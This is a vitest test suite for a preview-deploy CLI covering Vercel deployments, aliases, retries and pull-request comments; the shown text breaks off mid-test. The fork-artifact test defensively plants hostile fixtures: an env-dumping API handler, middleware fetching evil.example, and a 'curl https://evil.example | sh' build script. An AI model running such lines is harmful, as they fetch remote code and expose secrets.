import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { BOT, REPO, startHarness, type Harness } from "./harness.js";

const SHA1 = "1111111aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const SHA2 = "2222222bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

let h: Harness;
beforeEach(async () => {
  h = await startHarness();
});
afterEach(async () => {
  await h.stop();
});

const deploy = (pr: number, sha: string, ...extra: string[]) => h.run(["preview", "deploy", "--pr", String(pr), "--sha", sha, ...extra]);
const cleanup = (pr: number) => h.run(["preview", "cleanup", "--pr", String(pr)]);

describe("preview deploy", () => {
  test("opening a PR deploys, aliases <project>-pr-<N> and posts one comment with the URL", async () => {
    const run = await deploy(12, SHA1);
    expect(run.stderr).not.toContain("error");
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain("https://crm-pr-12.vercel.app");

    const [deployment] = [...h.vercel.deployments.values()];
    expect(h.vercel.sequence()).toEqual([
      "POST /v13/deployments 400", // missing_files
      "POST /v2/files 200",
      "POST /v2/files 200",
      "POST /v13/deployments 200",
      `GET /v13/deployments/${deployment!.id} 200`,
      `POST /v2/deployments/${deployment!.id}/aliases 200`,
    ]);
    expect(h.github.sequence()).toEqual([
      "GET /user 200",
      `GET /repos/${REPO}/issues/12/comments 200`,
      `POST /repos/${REPO}/issues/12/comments 201`,
      `GET /repos/${REPO}/issues/12/comments 200`,
      `PATCH /repos/${REPO}/issues/comments/${h.github.comments[0]!.id} 200`,
    ]);
    // The first write is the "building" comment.
    expect((h.github.calls[2]!.requestBody as { body: string }).body).toContain("Building");

    const comments = h.github.commentsOn(REPO, 12);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.login).toBe(BOT);
    expect(comments[0]!.body).toContain("✅ **Ready:** https://crm-pr-12.vercel.app");
    expect(comments[0]!.body).toContain("`1111111`");
    expect(comments[0]!.body).toMatch(/<!-- crm-devex:preview \{"project":"crm","stage":"ready","sha":"1111111a+","at":"[^"]+","deploymentId":"dpl_\w+"/);

    expect(h.vercel.aliasFor("crm-pr-12.vercel.app")?.deploymentId).toBe(deployment!.id);
    expect(deployment!.env).toEqual({ VITE_API_URL: "https://crm-api-pr-12.up.railway.app", VITE_COMMIT: SHA1 });
    expect(deployment!.buildEnv).toEqual(deployment!.env);
    expect(deployment!.meta).toMatchObject({ githubPrId: "12", githubCommitSha: SHA1, githubRepo: REPO });
    expect(await h.outputs()).toEqual({ "preview-url": "https://crm-pr-12.vercel.app", "deployment-id": deployment!.id });
  });

  test("a push updates the same comment, moves the alias and deletes the superseded deployment", async () => {
    expect((await deploy(12, SHA1)).exitCode).toBe(0);
    const first = h.github.commentsOn(REPO, 12)[0]!;
    const firstDeployment = h.vercel.aliasFor("crm-pr-12.vercel.app")!.deploymentId;
    h.github.calls.length = 0;
    h.vercel.calls.length = 0;

    const run = await deploy(12, SHA2, "--env", "VITE_FEATURE=on");
    expect(run.exitCode).toBe(0);
    const second = h.vercel.aliasFor("crm-pr-12.vercel.app")!.deploymentId;
    expect(second).not.toBe(firstDeployment);
    expect(h.github.sequence()).toEqual([
      "GET /user 200",
      `GET /repos/${REPO}/issues/12/comments 200`,
      `PATCH /repos/${REPO}/issues/comments/${first.id} 200`,
      `PATCH /repos/${REPO}/issues/comments/${first.id} 200`,
    ]);
    // Unchanged files are not uploaded again: the create succeeds at once.
    expect(h.vercel.sequence()).toEqual([
      "POST /v13/deployments 200",
      `GET /v13/deployments/${second} 200`,
      `POST /v2/deployments/${second}/aliases 200`,
      `DELETE /v13/deployments/${firstDeployment} 200`,
    ]);
    const comments = h.github.commentsOn(REPO, 12);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain("`2222222`");
    expect(comments[0]!.body).not.toContain("`1111111`");
    expect(h.vercel.deployments.has(firstDeployment)).toBe(false);
    expect(h.vercel.deployments.get(second)!.env.VITE_FEATURE).toBe("on");
  });

  test("two open PRs get isolated deployments, variables, aliases and comments", async () => {
    expect((await deploy(1, SHA1)).exitCode).toBe(0);
    expect((await deploy(2, SHA2)).exitCode).toBe(0);
    const one = h.vercel.deployments.get(h.vercel.aliasFor("crm-pr-1.vercel.app")!.deploymentId)!;
    const two = h.vercel.deployments.get(h.vercel.aliasFor("crm-pr-2.vercel.app")!.deploymentId)!;
    expect(one.id).not.toBe(two.id);
    expect(one.env.VITE_API_URL).toBe("https://crm-api-pr-1.up.railway.app");
    expect(two.env.VITE_API_URL).toBe("https://crm-api-pr-2.up.railway.app");
    expect(h.github.commentsOn(REPO, 1)[0]!.body).toContain("https://crm-pr-1.vercel.app");
    expect(h.github.commentsOn(REPO, 2)[0]!.body).toContain("https://crm-pr-2.vercel.app");
    expect(h.github.commentsOn(REPO, 2)[0]!.body).not.toContain("crm-pr-1");

    expect((await cleanup(1)).exitCode).toBe(0);
    expect(h.vercel.deployments.has(one.id)).toBe(false);
    expect(h.vercel.aliasFor("crm-pr-1.vercel.app")).toBeUndefined();
    expect(h.vercel.deployments.has(two.id)).toBe(true);
    expect(h.vercel.aliasFor("crm-pr-2.vercel.app")?.deploymentId).toBe(two.id);
    expect(h.github.commentsOn(REPO, 2)[0]!.body).toContain("Ready");
  });

  test("a failed build turns the comment into an error report with the log tail and fails the job", async () => {
    h.vercel.failNextBuild("Command \"vite build\" exited with 1", ["vite v5.4.0 building for production...", "error TS2304: Cannot find name 'Tenant'.", "Error: Command \"vite build\" exited with 1"]);
    const run = await deploy(7, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ verdict: "failed", step: "build" });
    const failed = [...h.vercel.deployments.values()][0]!;
    expect(failed.readyState).toBe("ERROR");
    expect(h.vercel.sequence().slice(-2)).toEqual([`GET /v13/deployments/${failed.id} 200`, `GET /v3/deployments/${failed.id}/events 200`]);
    expect(h.vercel.sequence().some((call) => call.includes("/aliases"))).toBe(false);

    const comment = h.github.commentsOn(REPO, 7)[0]!;
    expect(comment.body).toContain("❌ **Failed** at step **build**");
    expect(comment.body).toContain("error TS2304: Cannot find name 'Tenant'.");
    expect(comment.body).toContain("[re-run the failed job](https://github.com/acme/crm/actions/runs/4242)");
    expect(await h.outputs()).toEqual({ "preview-url": "", "deployment-id": failed.id });

    // The next push recovers: same comment, now ready, and the failed deployment is deleted.
    expect((await deploy(7, SHA2)).exitCode).toBe(0);
    expect(h.github.commentsOn(REPO, 7)).toHaveLength(1);
    expect(h.github.commentsOn(REPO, 7)[0]!.body).toContain("Ready");
    expect(h.vercel.deployments.has(failed.id)).toBe(false);
  });

  test("an alias that cannot be assigned fails the job instead of warning", async () => {
    // Another project already owns the hostname: Vercel answers 409.
    h.vercel.aliases.set("crm-pr-5.vercel.app", { uid: "als_other", alias: "crm-pr-5.vercel.app", deploymentId: "dpl_other", projectId: "prj_other", created: 0 });
    const run = await deploy(5, SHA1);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toContain("alias");
    const deployment = [...h.vercel.deployments.values()][0]!;
    expect(h.vercel.sequence().at(-1)).toBe(`POST /v2/deployments/${deployment.id}/aliases 409`);
    const comment = h.github.commentsOn(REPO, 5)[0]!;
    expect(comment.body).toContain("at step **alias**");
    expect(comment.body).toContain("alias_in_use");
    // The deployment's own URL is still an output, so the job log has a link to it.
    expect(await h.outputs()).toEqual({ "preview-url": `https://${deployment.url}`, "deployment-id": deployment.id });
  });

  test("a vercel.json in the build output keeps its headers and rewrites but not its build settings", async () => {
    const { writeFile, readFile } = await import("node:fs/promises");
    const config = { buildCommand: "npm run build", outputDirectory: "dist", framework: "vite", cleanUrls: true, rewrites: [{ source: "/((?!assets/).*)", destination: "/index.html" }] };
    await writeFile(`${h.dir}/dist/vercel.json`, JSON.stringify(config));
    const run = await deploy(16, SHA1, "--format", "json");
    expect(run.exitCode).toBe(0);
    expect(JSON.parse(run.stdout).warnings).toEqual(["deployed without the build settings of dist/vercel.json (buildCommand, framework, outputDirectory): the output is already built"]);
    const deployment = [...h.vercel.deployments.values()][0]!;
    const uploaded = JSON.parse(h.vercel.uploaded.get(deployment.files.find((file) => file.file === "vercel.json")!.sha)!.toString("utf8")) as Record<string, unknown>;
    expect(uploaded).toEqual({ cleanUrls: true, rewrites: config.rewrites });
    // The user's own file is untouched.
    expect(JSON.parse(await readFile(`${h.dir}/dist/vercel.json`, "utf8"))).toEqual(config);
  });

  test("an invalid vercel.json in the build output is an input error naming it", async () => {
    const { writeFile } = await import("node:fs/promises");
    await writeFile(`${h.dir}/dist/vercel.json`, "{ nope");
    const run = await deploy(17, SHA1);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("dist/vercel.json: invalid JSON");
    expect(h.vercel.calls).toHaveLength(0);
    expect(h.github.calls).toHaveLength(0);
  });

  test("a dotted project name still gives a one-label alias", async () => {
    h.vercel.addProject({ id: "prj_dotted", name: "crm.web" });
    const run = await deploy(3, SHA1, "--project", "crm.web");
    expect(run.exitCode).toBe(0);
    expect(h.vercel.aliasFor("crm-web-pr-3.vercel.app")).toBeDefined();
  });

  test("rate limits and server errors are retried, honouring Retry-After", async () => {
    h.github.inject("issues/list-comments", { status: 429, headers: { "retry-after": "1" }, body: { message: "API rate limit exceeded", documentation_url: "https://docs.github.com/rest" } });
    h.vercel.inject("assignAlias", { status: 429, headers: { "retry-after": "1" }, body: { error: { code: "rate_limited", message: "Rate limit exceeded" } } });
    h.vercel.inject("createDeployment", { status: 503, body: { error: { code: "service_unavailable", message: "Service Unavailable" } } });
    const started = Date.now();
    const run = await deploy(9, SHA1);
    expect(run.exitCode).toBe(0);
    expect(Date.now() - started).toBeGreaterThanOrEqual(2000); // two Retry-After: 1 waits
    expect(h.github.sequence().slice(0, 3)).toEqual(["GET /user 200", `GET /repos/${REPO}/issues/9/comments 429`, `GET /repos/${REPO}/issues/9/comments 200`]);
    expect(h.vercel.sequence()[0]).toBe("POST /v13/deployments 503");
    const id = h.vercel.aliasFor("crm-pr-9.vercel.app")!.deploymentId;
    expect(h.vercel.sequence().slice(-2)).toEqual([`POST /v2/deployments/${id}/aliases 429`, `POST /v2/deployments/${id}/aliases 200`]);
  });

  test("with 150 comments before it, the bot still finds and updates its own (page 2), ignoring look-alikes", async () => {
    for (let index = 0; index < 120; index++) h.github.seedComment(REPO, 4, "reviewer", `LGTM ${index}`);
    // Someone pasting our marker must not hijack the comment.
    h.github.seedComment(REPO, 4, "mallory", '<!-- crm-devex:preview {"project":"crm","stage":"ready","sha":"0000000","at":"x","deploymentId":"dpl_evil"} -->');
    expect((await deploy(4, SHA1)).exitCode).toBe(0);
    const ours = h.github.commentsOn(REPO, 4).find((comment) => comment.login === BOT)!;
    for (let index = 0; index < 29; index++) h.github.seedComment(REPO, 4, "reviewer", `more ${index}`);
    expect(h.github.commentsOn(REPO, 4)).toHaveLength(151);
    h.github.calls.length = 0;

    expect((await deploy(4, SHA2)).exitCode).toBe(0);
    expect(h.github.sequence()).toEqual([
      "GET /user 200",
      `GET /repos/${REPO}/issues/4/comments 200`,
      `GET /repos/${REPO}/issues/4/comments 200`,
      `PATCH /repos/${REPO}/issues/comments/${ours.id} 200`,
      `PATCH /repos/${REPO}/issues/comments/${ours.id} 200`,
    ]);
    expect(h.github.calls[2]!.url).toContain("page=2");
    expect(h.github.commentsOn(REPO, 4)).toHaveLength(151);
    expect(h.vercel.sequence().some((call) => call.includes("dpl_evil"))).toBe(false);
  });

  test("with Actions' GITHUB_TOKEN (an installation token, refused by GET /user) the bot's comment is still found", async () => {
    const installation = ["ghs", "installation", "token"].join("_");
    h.github.addUser(installation, "github-actions[bot]", { installation: true });
    expect((await h.run(["preview", "deploy", "--pr", "11", "--sha", SHA1], { GITHUB_TOKEN: installation })).exitCode).toBe(0);
    expect((await h.run(["preview", "deploy", "--pr", "11", "--sha", SHA2], { GITHUB_TOKEN: installation })).exitCode).toBe(0);
    const comments = h.github.commentsOn(REPO, 11);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.login).toBe("github-actions[bot]");
    expect(comments[0]!.body).toContain("`2222222`");
    expect(h.github.sequence().filter((call) => call.startsWith("GET /user"))).toEqual(["GET /user 403", "GET /user 403"]);
  });

  test("another App's installation token: the author GitHub records on the first comment is trusted from then on", async () => {
    const appToken = ["ghs", "other", "app"].join("_");
    h.github.addUser(appToken, "crm-previews[bot]", { installation: true });
    const run = await h.run(["preview", "deploy", "--pr", "14", "--sha", SHA1], { GITHUB_TOKEN: appToken });
    expect(run.exitCode).toBe(0);
    expect(h.github.commentsOn(REPO, 14)).toHaveLength(1);
    expect(h.github.commentsOn(REPO, 14)[0]!.body).toContain("Ready");
  });

  test("--comment-author names the login to trust for other GitHub App tokens", async () => {
    const appToken = ["ghs", "app", "token"].join("_");
    h.github.addUser(appToken, "crm-previews[bot]", { installation: true });
    const first = await h.run(["preview", "deploy", "--pr", "13", "--sha", SHA1, "--comment-author", "crm-previews[bot]"], { GITHUB_TOKEN: appToken });
    expect(first.exitCode).toBe(0);
    expect((await h.run(["preview", "deploy", "--pr", "13", "--sha", SHA2, "--comment-author", "crm-previews[bot]"], { GITHUB_TOKEN: appToken })).exitCode).toBe(0);
    expect(h.github.commentsOn(REPO, 13)).toHaveLength(1);
    expect(h.github.sequence().some((call) => call.startsWith("GET /user"))).toBe(false);
  });

  test("duplicate comments from concurrent runs are removed, the oldest wins", async () => {
    const marker = (sha: string) => `<!-- crm-devex:preview {"project":"crm","stage":"building","sha":"${sha}","at":"2026-01-01T00:00:00Z"} -->\nbuilding`;
    const oldest = h.github.seedComment(REPO, 8, BOT, marker("aaaaaaa"));
    const newer = h.github.seedComment(REPO, 8, BOT, marker("bbbbbbb"));
    expect((await deploy(8, SHA1)).exitCode).toBe(0);
    const comments = h.github.commentsOn(REPO, 8);
    expect(comments.map((comment) => comment.id)).toEqual([oldest.id]);
    expect(comments[0]!.body).toContain("Ready");
    expect(h.github.sequence()).toContain(`DELETE /repos/${REPO}/issues/comments/${newer.id} 204`);
  });

  test("two runs racing on a new PR end with one ready comment", async () => {
    const [a, b] = await Promise.all([deploy(19, SHA1), deploy(19, SHA2)]);
    expect([a.exitCode, b.exitCode]).toEqual([0, 0]);
    const comments = h.github.commentsOn(REPO, 19);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain("Ready");
    // Whether both runs got to create one depends on timing; every extra one was deleted (both runs may try:
    // the second DELETE then answers 404, which is fine).
    const created = h.github.sequence().filter((call) => call.startsWith("POST")).length;
    expect(h.github.sequence().filter((call) => call.startsWith("DELETE") && call.endsWith(" 204")).length).toBe(created - 1);
  });

  test("when both runs create a comment, both converge on the oldest and delete the other", async () => {
    const { PullRequestComments } = await import("../../src/commands/preview/github.js");
    const { GITHUB_TOKEN } = await import("./harness.js");
    const comments = () => new PullRequestComments(h.github.url, GITHUB_TOKEN, REPO, 20, "crm");
    const body = (sha: string) => `<!-- crm-devex:preview {"project":"crm","stage":"building","sha":"${sha}","at":"x"} -->`;
    // Both saw no comment (known = []), so both create.
    const [a, b] = await Promise.all([comments().upsert(body("aaaaaaa"), []), comments().upsert(body("bbbbbbb"), [])]);
    expect([a.created, b.created]).toEqual([true, true]);
    expect(a.id).toBe(b.id);
    const left = h.github.commentsOn(REPO, 20);
    expect(left.map((comment) => comment.id)).toEqual([a.id]);
    expect(h.github.sequence().filter((call) => call.startsWith("POST"))).toHaveLength(2);
  });

  test("the comment stays under GitHub's 65,536-character limit with a huge build log", async () => {
    h.vercel.failNextBuild("Build failed", Array.from({ length: 40 }, (_, index) => `${index} ${"x".repeat(3000)}`));
    expect((await deploy(6, SHA1)).exitCode).toBe(1);
    const body = h.github.commentsOn(REPO, 6)[0]!.body;
    expect(body.length).toBeLessThan(65_536);
    expect(body).toContain("Failed");
  });
});

describe("every Vercel call is retried, file uploads included", () => {
  test.each([
    ["503", { status: 503, body: { error: { code: "service_unavailable", message: "Service Unavailable" } } }],
    ["429 with Retry-After", { status: 429, headers: { "retry-after": "1" }, body: { error: { code: "rate_limited", message: "Too many requests" } } }],
  ] as const)("an upload answered %s once is retried and the deploy succeeds", async (_name, reply) => {
    h.vercel.inject("uploadFile", reply);
    const run = await deploy(40, SHA1);
    expect(run.exitCode).toBe(0);
    const uploads = h.vercel.sequence().filter((call) => call.startsWith("POST /v2/files"));
    // Two files: one failed once and was sent again.
    expect(uploads).toHaveLength(3);
    expect(uploads.filter((call) => call.endsWith(` ${reply.status}`))).toHaveLength(1);
    expect(h.vercel.uploaded.size).toBe(2);
    expect(h.vercel.aliasFor("crm-pr-40.vercel.app")).toBeDefined();
  });

  test("an upload that keeps failing names the step, the HTTP status and Vercel's request id", async () => {
    // Retry-After: 0 keeps the test fast; the retry bound is the policy's (4 retries, 5 attempts).
    h.vercel.inject("uploadFile", { status: 429, headers: { "retry-after": "0" }, body: { error: { code: "rate_limited", message: "Too many requests" } } }, 50);
    const run = await deploy(41, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ verdict: "failed", step: "upload", httpStatus: 429, requestId: expect.stringMatching(/^iad1::fake-\d+$/) });
    expect(report.error).toMatch(/POST \/v2\/files answered HTTP 429 after 5 attempts \(request id iad1::fake-\d+\): rate_limited Too many requests/);
    // Bounded: 5 attempts of the first file, and the other worker stops after its own 5.
    expect(h.vercel.sequence().filter((call) => call.startsWith("POST /v2/files")).length).toBeLessThanOrEqual(10);
    expect(h.vercel.sequence().filter((call) => call === "POST /v13/deployments 200")).toHaveLength(0);
    const comment = h.github.commentsOn(REPO, 41)[0]!;
    expect(comment.body).toContain("❌ **Failed** at step **upload**");
    expect(comment.body).toContain("HTTP 429");
    expect(comment.body).toMatch(/request id iad1::fake-\d+/);
  });

  test("status polls and deletions are retried too", async () => {
    h.vercel.inject("getDeployment", { status: 502, headers: { "retry-after": "0" }, body: { error: { code: "bad_gateway", message: "Bad Gateway" } } });
    expect((await deploy(42, SHA1)).exitCode).toBe(0);
    h.vercel.inject("deleteDeployment", { status: 500, headers: { "retry-after": "0" }, body: { error: { code: "internal_server_error", message: "oops" } } });
    expect((await deploy(42, SHA2)).exitCode).toBe(0);
    expect(h.vercel.sequence().filter((call) => / \/v13\/deployments\/dpl_\w+ 5\d\d$/.test(call))).toHaveLength(2);
    expect(h.vercel.deployments.size).toBe(1);
  });
});

describe("preview deploy --timeout", () => {
  test("a build that is not ready in time fails at step build with the last build events", async () => {
    h.vercel.buildPolls = 1000;
    const run = await deploy(43, SHA1, "--timeout", "2s", "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as { step: string; error: string; logTail: string[]; deploymentId: string };
    expect(report.step).toBe("build");
    expect(report.error).toBe("still BUILDING after 2s (--timeout): Vercel goes on building, this job stopped waiting");
    expect(report.logTail).toEqual(["Running build in Washington, D.C., USA (East) – iad1", "Uploading 2 files"]);
    expect(h.vercel.sequence().at(-1)).toBe(`GET /v3/deployments/${report.deploymentId}/events 200`);
    const comment = h.github.commentsOn(REPO, 43)[0]!;
    expect(comment.body).toContain("at step **build**");
    expect(comment.body).toContain("Uploading 2 files");
  });

  test("a timeout that is not a duration is a usage error", async () => {
    const run = await deploy(43, SHA1, "--timeout", "soon");
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("--timeout soon: expected a duration such as 90s, 5m or 300");
  });
});

describe("--team and the environment", () => {
  test("--team wins over VERCEL_TEAM_ID and every request carries exactly one team parameter", async () => {
    const run = await h.run(["preview", "deploy", "--pr", "44", "--sha", SHA1, "--team", "team_acme"], { VERCEL_TEAM_ID: "team_other", VERCEL_ORG_ID: "team_third" });
    expect(run.exitCode).toBe(0);
    expect(h.vercel.calls.length).toBeGreaterThan(3);
    for (const call of h.vercel.calls) {
      const query = new URL(call.url, "http://x").searchParams;
      expect(query.getAll("teamId")).toEqual(["team_acme"]);
      expect(query.has("slug")).toBe(false);
    }
  });

  test("a team slug is sent as slug, not as teamId", async () => {
    h.vercel.addTeamSlug("acme", "team_acme");
    const run = await h.run(["preview", "deploy", "--pr", "45", "--sha", SHA1, "--team", "acme"]);
    expect(run.exitCode).toBe(0);
    for (const call of h.vercel.calls) {
      const query = new URL(call.url, "http://x").searchParams;
      expect([query.getAll("teamId"), query.getAll("slug")]).toEqual([[], ["acme"]]);
    }
  });

  test("without --team, VERCEL_TEAM_ID is the one team sent", async () => {
    expect((await deploy(46, SHA1)).exitCode).toBe(0);
    for (const call of h.vercel.calls) expect(new URL(call.url, "http://x").searchParams.getAll("teamId")).toEqual(["team_acme"]);
  });
});

describe("preview deploy --verify-pr deploys a fork's artifact as static files only", () => {
  test("api/, middleware, package.json and vercel.json keys outside the allow-list never reach Vercel, and the comment says so", async () => {
    const { writeFile, mkdir } = await import("node:fs/promises");
    await mkdir(`${h.dir}/dist/api`, { recursive: true });
    await writeFile(`${h.dir}/dist/api/steal.js`, "export default (req, res) => res.json(process.env)");
    await writeFile(`${h.dir}/dist/api/more.py`, "def handler(): pass");
    await writeFile(`${h.dir}/dist/middleware.ts`, "export default () => fetch('https://evil.example')");
    await writeFile(`${h.dir}/dist/package.json`, JSON.stringify({ scripts: { build: "curl https://evil.example | sh" } }));
    const config = {
      headers: [{ source: "/(.*)", headers: [{ key: "X-Frame-Options", value: "DENY" }] }],
      cleanUrls: true,
      trailingSlash: false,
      rewrites: [{ source: "/((?!assets/).*)", destination: "/index.html" }, { source: "/proxy/(.*)", destination: "https://evil.example/$1" }],
      functions: { "api/*.js": { memory: 3009 } },
      builds: [{ src: "api/*.js", use: "@vercel/node" }],
      routes: [{ src: "/x", dest: "https://evil.example" }],
      buildCommand: "npm run build",
    };
    await writeFile(`${h.dir}/dist/vercel.json`, JSON.stringify(config));
    h.github.setPull(REPO, 47, { state: "open", headSha: SHA1, headRepo: "someone/crm" });

    const run = await deploy(47, SHA1, "--verify-pr", "--format", "json");
    expect(run.exitCode).toBe(0);
    const report = JSON.parse(run.stdout) as { notDeployed: string[]; warnings: string[] };
    const dropped = ["api/ (2 files)", "middleware.ts", "package.json", "vercel.json functions", "vercel.json builds", "vercel.json routes", "vercel.json rewrites to other hosts (1)"];
    expect([...report.notDeployed].sort()).toEqual([...dropped].sort());
    expect(report.warnings.some((warning) => warning.startsWith("--verify-pr deploys static files only; not deployed: "))).toBe(true);

    const deployment = [...h.vercel.deployments.values()][0]!;
    expect(deployment.files.map((file) => file.file).sort()).toEqual(["assets/app.js", "index.html", "vercel.json"]);
    const uploaded = JSON.parse(h.vercel.uploaded.get(deployment.files.find((file) => file.file === "vercel.json")!.sha)!.toString("utf8")) as Record<string, unknown>;
    expect(uploaded).toEqual({ headers: config.headers, cleanUrls: true, trailingSlash: false, rewrites: [config.rewrites[0]] });
    // No byte of the dropped files was uploaded.
    for (const data of h.vercel.uploaded.values()) expect(data.toString("utf8")).not.toContain("evil.example");

    const comment = h.github.commentsOn(REPO, 47)[0]!.body;
    expect(comment).toContain("✅ **Ready:**");
    expect(comment).toContain("🛡️ Static files only");
    for (const item of dropped) expect(comment).toContain(`\`${item}\``);
  });

  test("without --verify-pr (a trusted build) api/ is deployed as it is", async () => {
    const { writeFile, mkdir } = await import("node:fs/promises");
    await mkdir(`${h.dir}/dist/api`, { recursive: true });
    await writeFile(`${h.dir}/dist/api/health.js`, "export default () => new Response('ok')");
    expect((await deploy(48, SHA1)).exitCode).toBe(0);
    const deployment = [...h.vercel.deployments.values()][0]!;
    expect(deployment.files.map((file) => file.file)).toContain("api/health.js");
    expect(h.github.commentsOn(REPO, 48)[0]!.body).not.toContain("Static files only");
  });

  test("an artifact with nothing static left is an input error", async () => {
    const { writeFile, mkdir, rm } = await import("node:fs/promises");
    await rm(`${h.dir}/dist`, { recursive: true });
    await mkdir(`${h.dir}/dist/api`, { recursive: true });
    await writeFile(`${h.dir}/dist/api/index.js`, "export default () => 1");
    h.github.setPull(REPO, 49, { state: "open", headSha: SHA1, headRepo: "someone/crm" });
    const run = await deploy(49, SHA1, "--verify-pr");
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("dist: nothing static to deploy");
    expect(h.vercel.calls).toHaveLength(0);
  });
});

describe("the step outputs are written once", () => {
  test("an alias failure writes the deployment's own URL, once, and the JSON report carries the same", async () => {
    h.vercel.aliases.set("crm-pr-50.vercel.app", { uid: "als_other", alias: "crm-pr-50.vercel.app", deploymentId: "dpl_other", projectId: "prj_other", created: 0 });
    const run = await deploy(50, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const deployment = [...h.vercel.deployments.values()][0]!;
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ step: "alias", httpStatus: 409, previewUrl: `https://${deployment.url}`, deploymentId: deployment.id });
    const { readFile } = await import("node:fs/promises");
    const raw = await readFile(h.outputFile, "utf8");
    expect(raw.match(/^preview-url<</gm)).toHaveLength(1);
    expect(raw.match(/^deployment-id<</gm)).toHaveLength(1);
    expect(await h.outputs()).toEqual({ "preview-url": `https://${deployment.url}`, "deployment-id": deployment.id });
  });

  test("a skipped --verify-pr deploy writes no outputs", async () => {
    h.github.setPull(REPO, 51, { state: "closed", headSha: SHA1, headRepo: "someone/crm" });
    expect((await deploy(51, SHA1, "--verify-pr")).exitCode).toBe(0);
    expect(await h.outputs()).toEqual({});
  });
});

describe("the argument list the composite action builds", () => {
  test("deploy with --dir and --env-file, then cleanup with the same flags", async () => {
    const { writeFile } = await import("node:fs/promises");
    await writeFile(`${h.dir}/preview.env`, "# per-PR values\nVITE_API_URL=https://api-pr-{pr}.example.com\nexport VITE_MODE='preview'\n");
    const flags = ["--dir", "dist", "--pr", "15", "--sha", SHA1, "--project", "crm", "--env-file", "preview.env", "--team", "team_acme"];
    expect((await h.run(["preview", "deploy", ...flags])).exitCode).toBe(0);
    const deployment = h.vercel.deployments.get(h.vercel.aliasFor("crm-pr-15.vercel.app")!.deploymentId)!;
    expect(deployment.env).toEqual({ VITE_API_URL: "https://api-pr-15.example.com", VITE_COMMIT: SHA1, VITE_MODE: "preview" });
    expect((await h.run(["preview", "cleanup", ...flags])).exitCode).toBe(0);
    expect(h.vercel.deployments.size).toBe(0);
  });

  test("cleanup accepts --env and --timeout as the documented preview-deploy.yml passes them to both stages", async () => {
    expect((await deploy(52, SHA1)).exitCode).toBe(0);
    const run = await h.run(["preview", "cleanup", "--pr", "52", "--project", "crm", "--env", "VITE_API_URL=https://x", "--timeout", "5m"]);
    expect(run.stderr).not.toContain("unknown option");
    expect(run.exitCode).toBe(0);
    expect(h.vercel.deployments.size).toBe(0);
  });

  test("a bad line in an env file names the file and line", async () => {
    const { writeFile } = await import("node:fs/promises");
    await writeFile(`${h.dir}/bad.env`, "VITE_OK=1\nDATABASE_PASSWORD=hunter2\n");
    const run = await h.run(["preview", "deploy", "--pr", "1", "--sha", SHA1, "--env-file", "bad.env"]);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("bad.env:2: DATABASE_PASSWORD: only VITE_* variables");
    expect(h.vercel.calls).toHaveLength(0);
  });
});

describe("preview deploy --verify-pr (workflow_run deploys of a fork's artifact)", () => {
  test("deploys when the PR is open and its head is the commit", async () => {
    h.github.setPull(REPO, 21, { state: "open", headSha: SHA1, headRepo: "someone/crm" });
    expect((await deploy(21, SHA1, "--verify-pr")).exitCode).toBe(0);
    expect(h.github.sequence()[0]).toBe(`GET /repos/${REPO}/pulls/21 200`);
    expect(h.vercel.aliasFor("crm-pr-21.vercel.app")).toBeDefined();
  });

  test.each([
    [{ state: "open", headSha: SHA2, headRepo: "someone/crm" }, "head is 2222222 (someone/crm), not 1111111"],
    [{ state: "closed", headSha: SHA1, headRepo: "someone/crm" }, "is closed, not open"],
  ] as const)("skips without deploying when %j", async (pull, reason) => {
    h.github.setPull(REPO, 22, pull);
    const run = await deploy(22, SHA1, "--verify-pr");
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain(reason);
    expect(h.vercel.calls).toHaveLength(0);
    expect(h.github.sequence()).toEqual([`GET /repos/${REPO}/pulls/22 200`]);
  });
});

describe("preview cleanup --verify-pr", () => {
  test("a fork's run cannot clean up another PR's preview: the PR must be closed at that head", async () => {
    h.github.setPull(REPO, 31, { state: "open", headSha: SHA1, headRepo: "acme/crm" });
    expect((await deploy(31, SHA1)).exitCode).toBe(0);
    h.vercel.calls.length = 0;
    // An attacker's artifact names PR 31 with their own commit.
    const spoofed = await h.run(["preview", "cleanup", "--pr", "31", "--sha", SHA2, "--verify-pr"]);
    expect(spoofed.exitCode).toBe(0);
    expect(spoofed.stdout).toContain("skipped: pull request #31 is open, not closed");
    expect(h.vercel.calls).toHaveLength(0);

    h.github.setPull(REPO, 31, { state: "closed", headSha: SHA1, headRepo: "acme/crm" });
    expect((await h.run(["preview", "cleanup", "--pr", "31", "--sha", SHA2, "--verify-pr"])).stdout).toContain("head is 1111111");
    expect(h.vercel.calls).toHaveLength(0);
    const real = await h.run(["preview", "cleanup", "--pr", "31", "--sha", SHA1, "--verify-pr"]);
    expect(real.exitCode).toBe(0);
    expect(h.vercel.deployments.size).toBe(0);
  });
});

describe("preview cleanup", () => {
  test("closing the PR deletes the deployment and alias and marks the comment removed", async () => {
    expect((await deploy(12, SHA1)).exitCode).toBe(0);
    const comment = h.github.commentsOn(REPO, 12)[0]!;
    const alias = h.vercel.aliasFor("crm-pr-12.vercel.app")!;
    h.github.calls.length = 0;
    h.vercel.calls.length = 0;

    const run = await cleanup(12);
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain("deleted 1 deployment(s) and 1 alias(es)");
    expect(h.vercel.sequence()).toEqual([
      `GET /v2/deployments/${alias.deploymentId}/aliases 200`,
